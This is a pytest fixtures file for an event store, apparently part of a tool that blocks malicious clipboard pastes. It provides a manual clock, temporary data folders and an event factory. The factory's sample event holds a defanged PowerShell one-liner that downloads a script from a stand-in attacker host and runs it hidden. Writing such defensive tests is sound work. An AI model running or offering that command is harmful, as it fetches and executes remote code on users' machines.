"""Fixtures for the event store: a private data folder, a settable clock, event factories."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from app.events import Event
from app.storage import EventStore

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


@dataclass
class Clock:
    """A clock the test moves by hand."""

    now: datetime = T0

    def __call__(self) -> datetime:
        return self.now

    def advance(self, **delta: float) -> datetime:
        self.now += timedelta(**delta)
        return self.now


def make_event(**fields: Any) -> Event:
    values: dict[str, Any] = {
        "kind": "paste_blocked",
        "time": T0,
        "level": "malicious",
        "score": 90,
        "rules": ("clickfix.run-dialog",),
        "summary": "A web page put a PowerShell download command on the clipboard",
        "source": "hxxps://captcha[.]example/verify",
        "target": "run_dialog",
        "action": "blocked",
        "text": "powershell -w hidden -c iwr hxxps://evil[.]test/a.ps1 | iex",
        "sha256": "0" * 64,
        "host": "pc-1",
        "user": "alice",
        "app_version": "0.1.0",
    }
    values.update(fields)
    return Event(**values)


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    return tmp_path / "data"


@pytest.fixture
def store(data_dir: Path, clock: Clock) -> Iterator[EventStore]:
    s = EventStore.open(data_dir, clock=clock)
    yield s
    s.close()


def file_bytes(directory: Path) -> bytes:
    """Everything the store left in its folder, for searching for text that must be gone."""
    return b"".join(p.read_bytes() for p in sorted(directory.iterdir()) if p.is_file())
